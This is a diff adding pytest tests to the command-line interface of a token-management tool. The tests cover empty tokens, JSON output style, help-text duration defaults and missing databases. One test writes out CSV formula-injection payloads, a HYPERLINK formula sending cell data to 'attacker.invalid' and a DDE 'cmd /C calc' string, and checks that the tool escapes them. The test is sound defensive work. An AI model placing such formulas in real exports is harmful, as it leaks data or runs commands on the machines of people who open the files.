@@ -15,6 +15,8 @@ from typer.testing import CliRunner
 
 from tokencli import __version__
 from tokencli.cli.app import app
+from tokencli.cli.base import duration_text
+from tokencli.domain.durations import parse_duration
 from tokencli.domain.errors import ExitStatus
 from tokencli.domain.location import Location
 from tokencli.service.service import TokenService
@@ -146,7 +148,15 @@ def test_check_reads_stdin_when_dash_or_absent(runner: CliRunner) -> None:
         result = runner.invoke(app, args, input=token + "\n")
         assert (result.exit_code, result.stdout) == (0, "valid\n")
     empty = runner.invoke(app, ["check"], input="")
-    assert (empty.exit_code, empty.stdout) == (1, "malformed\n")
+    assert (empty.exit_code, empty.stdout) == (ExitStatus.USAGE, "")
+    assert empty.stderr == "Error: no token given: pass it as the argument, or on standard input\n"
+
+
+@pytest.mark.parametrize("given", ["", "   ", "\t\n"])
+def test_an_empty_token_argument_is_no_token_given(runner: CliRunner, given: str) -> None:
+    result = runner.invoke(app, ["check", given])
+    assert (result.exit_code, result.stdout) == (ExitStatus.USAGE, "")
+    assert "no token given" in result.stderr
 
 
 def test_check_skips_blank_lines_before_the_token_on_stdin(runner: CliRunner) -> None:
@@ -154,7 +164,8 @@ def test_check_skips_blank_lines_before_the_token_on_stdin(runner: CliRunner) ->
     result = runner.invoke(app, ["check"], input=f"\n  \n\t\r\n{token}\n")
     assert (result.exit_code, result.stdout) == (0, "valid\n")
     only_blank = runner.invoke(app, ["check"], input="\n\n\n")
-    assert (only_blank.exit_code, only_blank.stdout) == (1, "malformed\n")
+    assert (only_blank.exit_code, only_blank.stdout) == (ExitStatus.USAGE, "")
+    assert "no token given" in only_blank.stderr
 
 
 @pytest.mark.parametrize("space", ["\u00a0", "\u2003", "\u3000", "\u200b", "\ufeff"])
@@ -265,6 +276,109 @@ def test_list_piped_is_plain_tab_separated_and_literal(runner: CliRunner) -> Non
     assert sorted(line.split("\t")[1] for line in lines[1:]) == ["[red]x[/red]", "tab here"]
     assert "\x1b" not in result.stdout
     assert all(len(line.split("\t")) == len(headers) for line in lines)
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
+def test_tab_separated_text_never_starts_a_spreadsheet_formula(
+    runner: CliRunner, raw: RawDatabase, start: str
+) -> None:
+    label = f'{start}HYPERLINK("http://attacker.invalid/?"&A2,"open")'
+    token = issue(runner, "--label", label)
+    token_id = token.split(":")[0]
+    raw.execute(
+        "INSERT INTO audit (at, action, token_id, outcome, source, detail) VALUES "
+        "(1, 'import', NULL, 'imported', 'cli', ?)",
+        f"{start}cmd|' /C calc'!A0",
+    )
+    for args in (["list"], ["show", token_id]):
+        row = runner.invoke(app, args).stdout.splitlines()[1].split("\t")
+        assert row[1] == "'" + label, args
+    audit = runner.invoke(app, ["audit"]).stdout
+    assert f"\t'{start}cmd|' /C calc'!A0" in audit
+    cells = [cell for line in audit.splitlines() for cell in line.split("\t")]
+    # "-" alone (no token) is no formula: there is nothing after the sign.
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@")) and cell != "-"]
+    # Formats meant for programs carry the label exactly.
+    assert json.loads(runner.invoke(app, ["list", "--json"]).stdout)[0]["label"] == label
+    assert json.loads(runner.invoke(app, ["export"]).stdout.splitlines()[0])["label"] == label
+
+
+@NO_DATABASE
+def test_every_json_output_is_in_one_style(runner: CliRunner) -> None:
+    # One style everywhere: json.dumps' default separators, ASCII only.
+    token = issue(runner, "--label", 'caf\u00e9 "q"', "--scope", "deploy")
+    token_id = token.split(":")[0]
+    exported = runner.invoke(app, ["export", "--audit"]).stdout
+    outputs = {
+        "issue": ["issue", "--json", "--count", "2"],
+        "check": ["check", "--json", token],
+        "show": ["show", "--json", token_id],
+        "renew": ["renew", "--json", token_id],
+        "list": ["list", "--json"],
+        "list --jsonl": ["list", "--jsonl"],
+        "stats": ["stats", "--json"],
+        "audit": ["audit", "--json"],
+        "purge": ["purge", "--json"],
+        "purge --dry-run": ["purge", "--dry-run", "--json"],
+        "export": ["export", "--audit"],
+        "rotate": ["rotate", "--json", token_id],
+    }
+    for name, args in outputs.items():
+        result = runner.invoke(app, args)
+        assert result.exit_code == 0, (name, result.output)
+        lines = result.stdout.splitlines()
+        assert lines, name
+        for line in lines:
+            assert line == json.dumps(json.loads(line)), name
+    imported = runner.invoke(app, ["import", "--json", "--skip-existing"], input=exported)
+    assert imported.stdout.strip() == json.dumps(json.loads(imported.stdout)), imported.output
+
+
+@NO_DATABASE
+def test_help_writes_each_duration_default_one_way(runner: CliRunner) -> None:
+    durations = 0
+    for command in ("issue", "renew", "rotate", "purge", "list", "audit", "export"):
+        text = " ".join(
+            runner.invoke(app, [command, "--help"], env={"COLUMNS": "300"}).stdout.split()
+        )
+        # A duration default is said once, by [default: ...].
+        assert re.search(r"\(default:? [0-9]", text) is None, command
+        for default in re.findall(r"\[default: ([0-9]+[a-z][0-9a-z]*)\]", text):
+            durations += 1
+            assert re.fullmatch(r"[0-9]+[smhdw]", default), (command, default)
+            seconds = parse_duration(default)
+            assert duration_text(seconds) == default, (command, default)
+    assert durations >= 4  # issue and renew --ttl, rotate --grace, purge --audit-retention
+    purge_help = " ".join(runner.invoke(app, ["purge", "--help"]).stdout.split())
+    assert "[default: 90d]" in purge_help and "12w6d" not in purge_help
+    issue_help = " ".join(runner.invoke(app, ["issue", "--help"]).stdout.split())
+    assert "[default: 1h]" in issue_help and "At most 3650d" in issue_help
+
+
+@pytest.mark.stores("sqlite", reason="a path that does not exist")
+@pytest.mark.parametrize(
+    "args",
+    [
+        ["list"],
+        ["stats"],
+        ["audit"],
+        ["export"],
+        ["show", "aaaaaaaaaaaa"],
+        ["purge", "--dry-run"],
+        ["revoke", "--all", "--dry-run"],
+        ["check", "aaaaaaaaaaaa:" + "A" * 30],
+    ],
+)
+def test_a_read_on_a_database_that_does_not_exist_says_so_and_creates_nothing(
+    runner: CliRunner, tmp_path: Path, args: list[str]
+) -> None:
+    missing = tmp_path / "nonexistent" / "dir" / "x.db"
+    result = runner.invoke(app, ["--db", str(missing), *args])
+    expected = {"show": 1, "check": 1}.get(args[0], 0)
+    assert result.exit_code == expected, result.output
+    assert result.stderr.splitlines()[0] == f"Note: no database at {missing} yet; read as empty"
+    assert "Traceback" not in result.output
+    assert not missing.parent.parent.exists()
 
 
 def test_labels_with_escapes_stored_elsewhere_display_literally(
